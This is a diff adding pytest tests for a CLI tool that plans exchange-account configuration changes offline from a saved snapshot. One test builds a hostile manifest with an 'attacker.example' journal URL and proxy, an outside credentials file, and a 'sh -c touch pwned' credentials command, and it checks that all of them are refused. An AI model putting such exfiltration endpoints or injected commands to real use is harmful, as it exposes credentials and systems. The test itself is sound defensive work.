@@ -1,0 +1,182 @@
+"""`snapshot`, and `plan --live`: plans without credentials and without a request, against live state read earlier."""
+
+from __future__ import annotations
+
+import json
+import socket
+import subprocess
+from datetime import UTC, datetime, timedelta
+
+import pytest
+
+from acctcfg.core.canonical import digest_of
+
+KEY = {"permissions": ["read", "trade"], "ip_allowlist": ["127.0.0.1"], "store": "vault"}
+SWAP = {"market": "swap", "family": "BTC-USDT", "margin": "cross", "value": 7}
+ACCOUNT = {
+    "label": "MMdesk01",
+    "account_mode": "futures",
+    "position_mode": "net",
+    "api_keys": {"trading": KEY},
+    "leverage": [SWAP],
+}
+LIVE = ("--live", "live.json")
+
+
+@pytest.fixture
+def offline(desk, monkeypatch):
+    """Takes away every credential and every socket: what a job of a pull request has."""
+
+    def refuse(*_, **__):
+        raise AssertionError("a socket was opened, or a program started")
+
+    def go() -> None:
+        for name in (*desk.credentials(), "ACCTCFG_AGE_KEY"):
+            monkeypatch.delenv(name, raising=False)
+        monkeypatch.setattr(socket.socket, "connect", refuse)
+        monkeypatch.setattr(socket, "getaddrinfo", refuse)
+        monkeypatch.setattr(subprocess.Popen, "__init__", refuse)
+
+    return go
+
+
+@pytest.fixture
+def taken(desk, offline):
+    """One account with a position, its snapshot, and nothing else left of the credentials."""
+    desk.write({"mmdesk01": ACCOUNT})
+    assert desk.apply().code == 0
+    desk.open("mmdesk01", "positions", instId="BTC-USDT-SWAP", pos="3", mgnMode="cross")
+    said = desk.run("snapshot", "--out", "live.json")
+    assert said.code == 0, said.err
+    return desk
+
+
+def steps(said) -> dict:
+    assert said.out, said.err
+    return {one["address"]: one for one in said.json["steps"]}
+
+
+def test_a_plan_from_a_snapshot_is_the_plan_that_live_state_gives(taken, offline):
+    """A mode, a leverage and a new account: the same steps and prechecks, without credentials, socket or program."""
+    changed = ACCOUNT | {
+        "account_mode": "multi_currency",
+        "position_mode": "long_short",
+        "leverage": [SWAP | {"value": 3}],
+    }
+    taken.write({"mmdesk01": changed, "mmdesk02": ACCOUNT | {"label": "Other02"}})
+    live = steps(taken.plan("--format", "json"))
+    offline()
+    said = taken.plan(*LIVE, "--format", "json")
+    assert steps(said) == live
+    assert said.json["unreadable"] == []
+    assert [one["status"] for one in live["mmdesk01.position_mode"]["prechecks"]].count("fail") == 1
+    assert said.json["snapshot"]["blurred"] is False
+    assert said.json["venues"] == taken.run("plan", *LIVE, "--format", "json").json["venues"]
+
+
+def test_it_never_says_that_live_accounts_match(taken, offline):
+    """Nothing to do is said of the time of the snapshot, whose age stands above the plan."""
+    document = json.loads((taken.folder / "live.json").read_text())
+    then = (datetime.now(UTC) - timedelta(hours=3, minutes=1)).isoformat(timespec="seconds").replace("+00:00", "Z")
+    for one in document["venues"]["desk"]["answers"]:
+        one["read_at"] = then
+    del document["checksum"]
+    document["checksum"] = digest_of(document)
+    (taken.folder / "live.json").write_text(json.dumps(document))
+    offline()
+    said = taken.plan(*LIVE)
+    assert said.out.startswith(f"From a snapshot: live state of {then[:16]}Z, 3 h old.")
+    assert said.last == f"Nothing to change in the live state of {then[:16]}Z, 3 h old."
+    assert "match" not in said.out
+    assert taken.plan(*LIVE, "--format", "json").json["snapshot"]["as_of"] == then
+
+
+def test_what_the_snapshot_lacks_is_unreadable(taken, offline):
+    """A connection, credentials or a currency that nobody asked of then: said so, never taken for missing."""
+    deposit = {"addresses": [{"currency": "BTC"}]}
+    taken.write({"mmdesk01": ACCOUNT | {"deposit": deposit}})
+    offline()
+    said = taken.plan(*LIVE, "--format", "json")
+    assert said.code == 1
+    assert {one["code"] for one in said.json["unreadable"]} == {"not_in_snapshot"}
+    assert said.json["steps"] == []
+    taken.write({"mmdesk01": ACCOUNT}, venue={"credentials": {"env": "OTHER"}})
+    assert "is not in the snapshot" in taken.plan(*LIVE).err
+    taken.write({"mmdesk01": ACCOUNT}, venue={"environment": "live"})
+    assert "environment" in taken.plan(*LIVE).err
+
+
+def test_apply_refuses_the_plan_and_its_digest(taken):
+    """By the file and by --expect, before the first write, saying that it was made from a snapshot."""
+    taken.write({"mmdesk01": ACCOUNT | {"leverage": [SWAP | {"value": 6}]}})
+    before = len(taken.writes())
+    plan = taken.plan(*LIVE, "--out", "plan.json", "--format", "json").json
+    by_file, by_digest = taken.apply("plan.json"), taken.apply("--expect", plan["digest"])
+    assert (by_file.code, by_digest.code) == (1, 1)
+    assert "was made from a snapshot" in by_file.err
+    assert "is the digest of a plan from a snapshot" in by_digest.err
+    assert len(taken.writes()) == before
+
+
+@pytest.mark.parametrize(
+    "spoil", [lambda text: text[: len(text) // 2], lambda text: text.replace('"net', '"nit'), lambda _: "{}"]
+)
+def test_a_cut_or_edited_file_is_refused(taken, spoil):
+    """One message, exit status 1."""
+    file = taken.folder / "live.json"
+    file.write_text(spoil(file.read_text()))
+    said = taken.plan(*LIVE)
+    assert (said.code, said.out) == (1, "")
+    assert "live.json" in said.err
+
+
+def test_no_secret_is_in_it_and_only_its_owner_reads_it(taken):
+    """Neither the broker's credentials nor the account's, in a file of mode 0600 that its schema takes."""
+    text = (taken.folder / "live.json").read_text()
+    secrets = {**taken.credentials(), **taken.secret("mmdesk01", "trading")}
+    del secrets["OKX_DESK_API_KEY"], secrets["api_key"]  # ids, which sign nothing
+    assert not [one for one in secrets.values() if one in text]
+    assert (taken.folder / "live.json").stat().st_mode & 0o777 == 0o600
+
+
+def test_blur_hides_whose_accounts_these_are_and_how_much_is_in_them(taken, offline):
+    """Ids are others, alike in all of the file; amounts are powers of ten; the plan has the same steps."""
+    uid, id_ = taken.account("mmdesk01")["uid"], taken.secret("mmdesk01", "trading")["api_key"]
+    assert taken.run("snapshot", "--out", "live.json", "--blur").code == 0
+    text = (taken.folder / "live.json").read_text()
+    assert not [one for one in (uid, id_, "test-api-key", "700000000000000001") if one in text]
+    taken.write({"mmdesk01": ACCOUNT | {"position_mode": "long_short"}})
+    offline()
+    said = taken.plan(*LIVE, "--format", "json")
+    assert said.code == 0, said.out
+    assert list(steps(said)) == ["mmdesk01.position_mode", "mmdesk01.leverage[swap/BTC-USDT/cross]"]
+    assert steps(said)["mmdesk01.position_mode"]["prechecks"][0]["detail"] == "BTC-USDT-SWAP 10 (cross)"
+    assert said.json["snapshot"]["blurred"] is True
+
+
+def test_a_hostile_manifest_starts_nothing_and_reads_nothing(taken, offline, tmp_path_factory):
+    """Commands are refused as ever; a journal on a server, a file of credentials and a proxy are never looked at."""
+    outside = tmp_path_factory.mktemp("outside") / "key"
+    outside.write_text('{"api_key": "stolen"}')
+    taken.write(
+        {"mmdesk01": ACCOUNT | {"access": {"credentials": {"file": str(outside)}}}},
+        journal={"url": "postgresql://attacker.example/steal"},
+        venue={"proxy": "http://attacker.example:3128"},
+    )
+    offline()
+    said = taken.plan(*LIVE)
+    assert "stolen" not in said.out + said.err
+    assert "BLOCKED" not in said.out
+    taken.write({"mmdesk01": ACCOUNT}, venue={"credentials": {"exec": ["sh", "-c", "touch pwned"]}})
+    said = taken.plan(*LIVE)
+    assert said.code == 1
+    assert "ACCTCFG_TRUST" in said.err
+    assert not (taken.folder / "pwned").exists()
+
+
+def test_another_file_is_not_overwritten(desk):
+    """A snapshot goes over a snapshot alone; that is said before the first request."""
+    desk.write({"mmdesk01": ACCOUNT})
+    said = desk.run("snapshot", "--out", "acctcfg.yaml")
+    assert said.code == 64
+    assert "is not a snapshot" in said.err
